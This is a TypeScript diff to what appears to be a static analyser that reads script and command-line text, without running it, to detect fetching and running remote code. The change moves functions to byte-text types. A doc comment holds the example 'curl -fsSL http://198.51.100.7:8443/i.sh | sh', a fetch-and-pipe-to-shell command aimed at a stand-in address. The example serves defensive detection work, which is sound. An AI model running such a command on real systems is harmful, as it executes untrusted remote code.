@@ -1,5 +1,7 @@
 import { show } from '../show.ts';
 import type { FetchAddress, Shown } from '../snapshot.ts';
+import type { ByteText, NotShown } from '../text-kinds.ts';
+import { byteTextOf } from './byte-text.ts';
 import { FETCHERS, LANGUAGES, SHELLS } from './program-names.ts';
 
 /** What the text of a script or of a command line does, as far as its text says. It is never run. */
@@ -51,10 +53,9 @@ const DEFAULT_PORTS: Readonly<Record<string, number>> = {
 /**
  * Facts of a text.
  *
- * @param text one character a byte (latin1), or plain text
- * @example scriptFacts('curl -fsSL http://198.51.100.7:8443/i.sh | sh').fetchesAndRuns // true
+ * @example scriptFacts(byteText('curl -fsSL http://198.51.100.7:8443/i.sh | sh')).fetchesAndRuns // true
  */
-export function scriptFacts(text: string): ScriptFacts {
+export function scriptFacts(text: ByteText): ScriptFacts {
   const joined = text.slice(0, MAX_SCRIPT_BYTES).replace(/\\\r?\n/g, ' ');
   const code = joined
     .split('\n')
@@ -117,7 +118,7 @@ function runsWhatItFetches(code: string, fetches: readonly FetchAddress[]): bool
       code,
     )
   ) {
-    for (const fetch of fetches) names.add(fetch.path.split(/[?]/)[0]?.split('/').at(-1) ?? '');
+    for (const fetch of fetches) names.add(byteTextOf(fetch.path).split(/[?]/)[0]?.split('/').at(-1) ?? '');
   }
   return [...names].some((name) => name.length > 1 && isRun(code, name));
 }
@@ -150,7 +151,7 @@ function absolutePaths(code: string): Shown[] {
 }
 
 /** Text of one character a byte becomes shown text; text that is no bytes (already decoded) is shown as it is. */
-function shown(text: string): Shown {
+function shown(text: NotShown): Shown {
   for (let i = 0; i < text.length; i++) if (text.charCodeAt(i) > 0xff) return show(text);
   return show(Uint8Array.from(text, (c) => c.charCodeAt(0)));
 }
